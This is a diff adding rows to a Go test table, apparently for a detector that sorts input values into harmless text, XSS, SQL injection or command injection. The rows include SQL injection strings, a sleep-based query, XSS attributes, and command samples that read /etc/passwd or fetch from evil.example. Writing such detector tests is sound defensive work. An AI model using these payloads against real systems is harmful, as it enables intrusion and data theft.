@@ -34,6 +34,13 @@ func TestMended(t *testing.T) {
 		{"a program that the value names, of none that is known", Unknown, None, []string{"/usr/local/bin/lamp"}},
 		{"an address in angle brackets", Unknown, None, []string{`<https://shop.example?page=8>; rel="next"`}},
 		{"an address that is none", Unknown, XSS, []string{`<https://x onclick=alert(1)>`, `<http://"onload=alert(1)>`}},
+		{"texts in quotes and nothing else", Search, None, []string{`"order notes" OR "garden"`, `"order lamp" and "value"`}},
+		{"tags and lines in quotes", Unknown, None, []string{`"*", "9f86d081884c7d65"`, `"a","b c","d"`}},
+		{"quotes that continue a condition", Search, SQL, []string{`" or "a"="a`, `"or 1=1--`, `" or "1`}},
+		{"a number beside a word is no condition that holds", Unknown, None, []string{"1 or 2 = fine", "kill bill; uma"}},
+		{"code that is shown", FreeText, None, []string{`echo "Hello, $USER"`, "`echo $HOME` prints /home/anna", "`ls -la` shows them"}},
+		{"code that reaches out", FreeText, Command, []string{"`cat /etc/passwd`", "`wget http://evil.example/a`"}},
+		{"a value that is a query", Search, SQL, []string{"(select(0)from(select(sleep(6)))v)", "(select 0 from users)"}},
 	} {
 		if row.class == None {
 			passes(t, row.field, row.texts)
